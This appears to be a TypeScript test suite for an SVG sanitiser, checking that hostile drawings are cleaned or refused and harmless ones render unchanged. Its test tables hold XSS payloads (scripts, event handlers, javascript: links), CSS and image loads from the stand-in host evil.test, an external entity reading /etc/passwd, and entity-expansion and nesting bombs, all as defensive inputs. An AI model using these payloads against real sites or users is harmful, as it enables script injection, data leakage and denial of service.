import { DOMParser, type Element } from "@xmldom/xmldom";
import fc from "fast-check";
import sharp from "sharp";
import { describe, expect, test } from "vitest";
import { logo } from "../demo/pictures/logo.ts";
import { sanitiseSvg } from "./sanitise.ts";

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const drawing = (inside: string) =>
  `<svg ${NS} width="60" height="40" viewBox="0 0 60 40"><rect id="r" width="30" height="40" fill="#c33"/>${inside}</svg>`;
const sanitise = async (text: string) => {
  const bytes = await sanitiseSvg(new TextEncoder().encode(text));
  return bytes && new TextDecoder().decode(bytes);
};

/** Every element and attribute, by a parser that has nothing to do with ours. Fails on what is not well-formed. */
function elementsOf(text: string): readonly Element[] {
  const document = new DOMParser({
    onError: (level, message) => {
      // A guess at the encoding: the character may be written as any other, and CSS reads one where an escape ends the text.
      if (level === "warning" && message.startsWith("Unicode replacement character")) return;
      throw new Error(`${level}: ${message}`);
    },
  }).parseFromString(text, "image/svg+xml");
  return [...document.getElementsByTagName("*")];
}

/** Written without looking at how the sanitiser works: what must not be in a picture, whichever way it came in. */
function faultsOf(text: string): readonly string[] {
  const faults: string[] = [];
  if (/<!DOCTYPE|<!ENTITY|<\?|<!--|<!\[CDATA/i.test(text)) faults.push("markup besides elements");
  for (const element of elementsOf(text)) {
    const name = element.localName?.toLowerCase() ?? "";
    if (element.namespaceURI !== "http://www.w3.org/2000/svg") faults.push(`foreign ${name}`);
    if (/^(script|foreignobject|iframe|embed|object|audio|video|handler|listener|a|link|meta)$/.test(name))
      faults.push(name);
    if (/^(animate|set)/.test(name) && /href|^on|style/i.test(element.getAttribute("attributeName") ?? ""))
      faults.push(`${name} of an address`);
    for (const { name: key, value } of [...element.attributes]) {
      if (/^on/i.test(key)) faults.push(key);
      if (/href$/i.test(key) && !/^(#|data:image\/(png|jpeg|gif|webp|avif);base64,)/.test(value))
        faults.push(`${key}=${value}`);
      if (!/^xmlns/.test(key) && !/href$/.test(key)) faults.push(...cssFaults(value));
    }
    if (name === "style") faults.push(...cssFaults(element.textContent ?? ""));
  }
  return faults;
}

/** As a browser would read it: escapes undone, comments taken out. */
function cssFaults(css: string): readonly string[] {
  const plain = css
    .replace(/\/\*.*?\*\//gs, "")
    .replace(/\\([0-9a-f]{1,6})\s?/gi, (_, hex) => String.fromCodePoint(Number.parseInt(hex, 16)));
  // Strings name nothing by themselves, only in the functions below.
  const loading = plain.match(
    /@import|@font-face|@charset|@namespace|expression\(|javascript:|(image-set|src|image)\(/i,
  );
  const urls = [...plain.matchAll(/url\(\s*["']?(?!#)[^)]*/gi)].map(([url]) => url);
  return [...(loading ? [loading[0]] : []), ...urls];
}

const HOSTILE: readonly (readonly [name: string, svg: string])[] = [
  ["a script", drawing("<script>alert(1)</script>")],
  [
    "a script elsewhere",
    drawing('<script href="http://evil.test/x.js"/><script xlink:href="data:,alert(1)"/>'),
  ],
  [
    "a script under another prefix",
    `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="9"><s:script>alert(1)</s:script></s:svg>`,
  ],
  ["a script of HTML", drawing('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>')],
  ["a script in CDATA", drawing("<script><![CDATA[alert(1)]]></script>")],
  ["a script in a title", drawing("<title><script>alert(1)</script></title>")],
  ["a script in what is left out", drawing("<metadata><g><script>alert(1)</script></g></metadata>")],
  ["markup in CDATA", drawing("<text><![CDATA[<script>alert(1)</script>]]></text>")],
  ["markup in a style", drawing("<style><![CDATA[</style><script>alert(1)</script>]]></style>")],
  ["markup in an attribute", drawing('<g id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>')],
  [
    "handlers",
    `<svg ${NS} onload="alert(1)" width="9" height="9"><rect onclick="alert(1)" OnMouseOver="alert(1)"/></svg>`,
  ],
  [
    "handlers in a namespace",
    drawing(
      '<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="#x"/><handler xmlns="http://www.w3.org/2000/svg">alert(1)</handler>',
    ),
  ],
  [
    "a foreign object",
    drawing(
      '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/></body></foreignObject>',
    ),
  ],
  [
    "elements of HTML",
    drawing(
      '<iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.test"/><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>',
    ),
  ],
  [
    "links",
    drawing(
      '<a href="javascript:alert(1)"><circle r="4"/></a><a xlink:href="&#106;avascript:alert(1)"><circle r="4"/></a><a href="java&#10;script:alert(1)"><circle r="4"/></a>',
    ),
  ],
  [
    "data as a link",
    drawing('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><circle r="4"/></a>'),
  ],
  [
    "an animated address",
    drawing(
      '<a id="l"><circle r="4"/><set attributeName="href" to="javascript:alert(1)"/><animate attributeName="xlink:href" values="javascript:alert(1)"/></a>',
    ),
  ],
  [
    "an animated handler",
    drawing(
      '<set attributeName="onmouseover" to="alert(1)"/><animate attributeName="style" to="fill:url(http://evil.test)"/>',
    ),
  ],
  [
    "an animation to an address",
    drawing(
      '<rect width="9" height="9"><set attributeName="fill" to="url(http://evil.test/#a)"/><animate attributeName="filter" values="url(#a);url(//evil.test#b)"/></rect>',
    ),
  ],
  [
    "pictures elsewhere",
    drawing(
      '<image href="http://evil.test/t.png" width="9" height="9"/><image xlink:href="//evil.test/t.png"/><image href="file:///etc/passwd"/><feImage href="http://evil.test"/>',
    ),
  ],
  [
    "a drawing as data",
    drawing(
      '<image href="data:image/svg+xml;base64,PHN2Zy8+"/><image href="data:text/html;base64,PHN2Zy8+"/><image href="data:image/png,&lt;script&gt;"/>',
    ),
  ],
  [
    "uses elsewhere",
    drawing(
      '<use href="http://evil.test/a.svg#x"/><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/><use href="other.svg#x"/>',
    ),
  ],
  [
    "paints elsewhere",
    drawing(
      '<rect width="9" height="9" fill="url(http://evil.test/a.svg#g)" filter="url( \'//evil.test#f\' )" mask="URL(x.svg#m)"/>',
    ),
  ],
  [
    "paints elsewhere, escaped",
    drawing(
      '<rect width="9" height="9" fill="u\\72l(http://evil.test#g)" style="fill:\\75 rl(//evil.test#g)"/>',
    ),
  ],
  [
    "a style that loads",
    drawing('<rect style="background:url(http://evil.test/x);fill:red" width="9" height="9"/>'),
  ],
  [
    "imports",
    drawing(
      "<style>@import 'http://evil.test/x.css'; @\\69mport url(//evil.test/y.css); @IMPORT \"z\"; rect{fill:red}</style>",
    ),
  ],
  [
    "an import in pieces",
    drawing("<style>@im/**/port 'http://evil.test/x.css'; </style><style>@import<!-- x -->'y';</style>"),
  ],
  [
    "fonts",
    drawing("<style>@font-face{font-family:x;src:url(http://evil.test/f.woff)} text{font-family:x}</style>"),
  ],
  [
    "images of CSS",
    drawing(
      '<style>rect{background:image-set("http://evil.test" 1x);mask:url("http://evil.test");cursor:url(x.cur),auto;--u:url(http://evil.test);background:src(var(--u))}</style>',
    ),
  ],
  ["selectors that spy", drawing('<style>rect[fill^="#c"]{background:url(//evil.test/c)}</style>')],
  [
    "nested rules",
    drawing(
      "<style>g{rect{fill:url(//evil.test)}} @media all{@import 'x'; rect{fill:url(//evil.test)}}</style>",
    ),
  ],
  [
    "unclosed CSS",
    drawing(
      '<style>rect{fill:red;background:url(//evil.test</style><rect style="fill:url(&quot;//evil.test"/><style>rect{fill:"\\</style>',
    ),
  ],
  [
    "CSS of long ago",
    drawing(
      "<style>rect{behavior:url(x.htc);-moz-binding:url(//evil.test#x);width:expression(alert(1))}</style>",
    ),
  ],
  ["a style of another type", drawing('<style type="text/javascript">alert(1)</style>')],
  ["an instruction", `<?xml-stylesheet href="http://evil.test/x.css"?>${drawing("")}`],
  ["a comment", drawing("<!-- <script>alert(1)</script> -->")],
  ["a base", `<svg ${NS} xml:base="http://evil.test/" width="9" height="9"><use href="#x"/></svg>`],
  [
    "plain entities",
    `<!DOCTYPE svg [<!ENTITY j "javascript:alert(1)"><!ENTITY u "url(//evil.test)">]>${drawing('<a href="&j;"><circle r="4"/></a><circle r="4" fill="&u;"/>')}`,
  ],
  ["an attribute by default", `<!DOCTYPE svg [<!ATTLIST rect onload CDATA "alert(1)">]>${drawing("")}`],
  [
    "what a reader of HTML would see",
    drawing(
      '<style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt; rect{fill:"&lt;/style&gt;"}</style><title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>',
    ),
  ],
];

describe("nothing active is left of", () => {
  test.each(HOSTILE)("%s", async (_, svg) => {
    const text = await sanitise(svg);
    expect(text).toBeDefined();
    expect(faultsOf(text ?? "")).toEqual([]);
    // Nothing grows back: what was cleaned once is clean.
    expect(await sanitise(text ?? "")).toBe(text);
  });

  test("the judge of these tests sees what is there before", () => {
    const harmless = new Set([
      "markup in an attribute",
      "markup in CDATA",
      "what a reader of HTML would see",
      "a base",
    ]);
    const blind = HOSTILE.filter(([name, svg]) => {
      if (
        harmless.has(name) ||
        name.includes("escaped") ||
        /entities|default|unclosed|pieces|type|namespace/i.test(name)
      )
        return false;
      return faultsOf(svg).length === 0;
    }).map(([name]) => name);
    expect(blind).toEqual([]);
  });
});

describe("shown as pixels only", () => {
  const laughs = ["a", "b", "c", "d", "e"].map(
    (name, at, all) => `<!ENTITY ${name} "${at === 0 ? "ha" : `&${all[at - 1]};`.repeat(10)}">`,
  );
  const uses = Array.from(
    { length: 12 },
    (_, at) => `<g id="u${at + 1}">${`<use href="#u${at}"/>`.repeat(10)}</g>`,
  ).join("");
  test.each([
    ["entities of entities", `<!DOCTYPE svg [${laughs.join("")}]>${drawing("<text>&e;</text>")}`],
    [
      "an entity from elsewhere",
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing("<text>&x;</text>")}`,
    ],
    [
      "a parameter entity",
      `<!DOCTYPE svg [<!ENTITY % x "<!ENTITY y 'z'>"> %x;]>${drawing("<text>&y;</text>")}`,
    ],
    ["uses of uses", drawing(`<defs><g id="u0"><circle r="1"/></g>${uses}</defs><use href="#u12"/>`)],
    [
      "a chain of uses",
      drawing(Array.from({ length: 20_000 }, (_, at) => `<use id="u${at}" href="#u${at + 1}"/>`).join("")),
    ],
    ["a library of CSS", drawing(`<style>${"a{b:c}".repeat(30_000)}</style>`)],
    ["a tower", `<svg ${NS}>${"<g>".repeat(5_000)}${"</g>".repeat(5_000)}</svg>`],
    ["a crowd", `<svg ${NS}>${"<g/>".repeat(60_000)}</svg>`],
    [
      "text that grows",
      `<!DOCTYPE svg [<!ENTITY x "${"x".repeat(128)}">]>${drawing(`<text>${"&x;".repeat(100_000)}</text>`)}`,
    ],
    ["broken markup", drawing("<g>")],
    ["two attributes of one name", drawing('<g id="a" id="b"/>')],
    ["another encoding", `<?xml version="1.0" encoding="utf-7"?>${drawing("")}`],
    ["another root", `<html xmlns="http://www.w3.org/1999/xhtml">${drawing("")}</html>`],
    ["no namespace", "<svg><script>alert(1)</script></svg>"],
  ])("%s", async (_, svg) => {
    expect(await sanitise(svg)).toBeUndefined();
  });
});

describe("a harmless drawing looks the same and is no longer", () => {
  const dot =
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
  test.each([
    ["the sample logo", logo()],
    [
      "gradients, masks, uses and filters",
      drawing(`<!-- made by hand -->
      <defs><linearGradient id="g"><stop offset="0" stop-color="#fc0"/><stop offset="1" style="stop-color:#06c"/></linearGradient>
      <linearGradient id="h" xlink:href="#g" gradientTransform="rotate(40)"/><mask id="m"><rect width="60" height="40" fill="#888"/></mask>
      <pattern id="p" width="6" height="6" patternUnits="userSpaceOnUse"><circle cx="3" cy="3" r="2" fill="teal"/></pattern>
      <filter id="f"><feGaussianBlur stdDeviation="1.5"/></filter><symbol id="s" viewBox="0 0 8 8"><path d="M0 0 L8 8 V0z"/></symbol></defs>
      <circle cx="20" cy="20" r="12" fill="url(#h)"/><rect x="30" width="30" height="20" fill="url('#p')" mask="url(#m)"/>
      <use xlink:href="#s" x="34" y="22" width="14" height="14" style="fill : #639 ; opacity:.8"/><g filter="url(#f)"><rect x="44" y="24" width="10" height="8"/></g>`),
    ],
    [
      "a style sheet",
      drawing(
        '<style type="text/css"><![CDATA[ /* x */ .a > rect:nth-child(2){ fill:#0a6; stroke:rgb(10 20 30) } @media all{ .b{opacity:.5} } ]]></style><g class="a b"><rect width="5" height="9"/><rect x="35" y="5" width="15" height="15"/></g>',
      ),
    ],
    [
      "entities of a drawing program",
      `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd" [<!ENTITY ns "http://www.w3.org/2000/svg"><!ENTITY st0 "fill:#0F0;stroke:#000;">]><svg xmlns="&ns;" width="60" height="40"><rect width="20" height="20" style="&st0;"/></svg>`,
    ],
    [
      "a picture inside",
      drawing(`<image x="32" y="4" width="20" height="20" xlink:href="data:image/png;base64,${dot}"/>`),
    ],
    [
      "a link and a switch",
      drawing(
        `<a href="https://site.test"><circle cx="40" cy="20" r="9" fill="#06c"/></a><switch><foreignObject requiredExtensions="http://x.test/"/><g><rect x="50" width="9" height="9"/></g></switch>`,
      ),
    ],
    [
      "latin letters of before",
      `<?xml version="1.0" encoding="iso-8859-1"?>${drawing("<title>plain</title>")}`,
    ],
  ])("%s", async (_, svg) => {
    const text = await sanitise(svg);
    expect(text?.length).toBeLessThanOrEqual(svg.length + 60);
    const [before, after] = await Promise.all([svg, text ?? ""].map(pixelsOf));
    expect(after?.length).toBe(before?.length);
    const difference = before?.reduce(
      (most, value, at) => Math.max(most, Math.abs(value - (after?.[at] ?? 0))),
      0,
    );
    expect(difference).toBe(0);
    // And it is a picture, not an empty sheet twice.
    expect(new Set(before).size).toBeGreaterThan(2);
  });
});

const pixelsOf = (svg: string): Promise<Buffer> => sharp(Buffer.from(svg)).ensureAlpha().raw().toBuffer();

describe("whatever comes", () => {
  const piece = fc.constantFrom(
    ...[
      "url(",
      "url(#a)",
      "\\75rl(",
      "//x.test",
      '"',
      "'",
      ")",
      "(",
      "{",
      "}",
      ";",
      ":",
      "@import ",
      "/*",
      "*/",
      "\\",
      "fill",
      "rect",
    ],
    ...[
      "<!--",
      "-->",
      "<",
      ">",
      "&",
      " ",
      "image-set(",
      "var(",
      "red",
      "!",
      ",",
      "#",
      "[",
      "]",
      "\n",
      "javascript:",
    ],
  );
  const css = fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(""));
  const escaped = (text: string) => text.replace(/[&<>"]/g, (each) => `&#${each.codePointAt(0)};`);

  /** What is left of CSS without strings and without the names of `#a`, which with a bracket behind them call nothing. */
  const wordsOf = (text: string) =>
    text
      .replace(/url\("#[^"]*"\)/g, "")
      .replace(/"[^"]*"/g, "")
      .replace(/#(?:[\w-]|\\[^\n])+/g, "#");
  /** `a-url(` and `a-image-set(` are other words, and lead nowhere; browsers still know one of the latter. */
  const LOADING = /(?<![\w-])(?:url\((?!#|$)|(?:-webkit-)?image-set)/i;

  test("no style sheet, style or paint gets an address out", async () => {
    await fc.assert(
      fc.asyncProperty(css, css, css, async (sheet, style, paint) => {
        const text = await sanitise(
          drawing(`<style>${escaped(sheet)}</style><g style="${escaped(style)}" fill="${escaped(paint)}"/>`),
        );
        const shown = elementsOf(text ?? "").flatMap((element): string[] =>
          element.localName === "style"
            ? [element.textContent ?? ""]
            : [element.getAttribute("style") ?? "", element.getAttribute("fill") ?? ""],
        );
        for (const each of shown) expect(wordsOf(each)).not.toMatch(LOADING);
      }),
      {
        numRuns: 400,
        examples: [
          ["", "javascript:#url()", ""],
          ["", "", "#image-set()"],
          ["", "", "url(#\\"],
          ["#\\url(red){fill:red}", "", "-webkit-image-set()"],
        ],
      },
    );
  });

  test("any text is cleaned or refused, never thrown at", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.oneof(piece, fc.string(), fc.constantFrom("<svg>", "</svg>", "<!DOCTYPE svg [", "]>", "&a;")),
        ),
        async (parts) => {
          const text = await sanitise(drawing(parts.join("")));
          if (text !== undefined) expect(faultsOf(text)).toEqual([]);
        },
      ),
      { numRuns: 400 },
    );
  });
});
